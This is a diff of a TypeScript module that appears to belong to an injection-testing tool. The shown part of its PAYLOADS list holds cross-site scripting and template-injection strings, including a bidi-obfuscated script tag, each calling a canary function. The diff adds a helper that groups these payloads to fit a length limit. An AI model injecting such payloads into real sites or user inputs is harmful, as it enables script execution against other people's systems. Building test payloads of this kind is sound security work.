@@ -43,3 +43,19 @@ export const PAYLOADS: readonly string[] = [
   "{{constructor.constructor('__hit()')()}} ${__hit()} `${__hit()}`",
   `\u202e<script>__hit()</script>\u202c<bdo dir=rtl onclick=__hit()>`,
 ];
+
+const isMarkup = (payload: string) => /^\W*[<"']/.test(payload);
+
+/** Payloads that fit together into a text. Markup works anywhere in one; an address only works alone. */
+export function sharing(maxLength: number, payloads: readonly string[] = PAYLOADS): string[][] {
+  const groups = payloads.filter((one) => !isMarkup(one)).map((one) => [one]);
+  let group: string[] = [];
+  for (const payload of payloads.filter(isMarkup)) {
+    if (group.length > 0 && [...group, payload].join(" ").length > maxLength) {
+      groups.push(group);
+      group = [];
+    }
+    group.push(payload);
+  }
+  return group.length > 0 ? [...groups, group] : groups;
+}
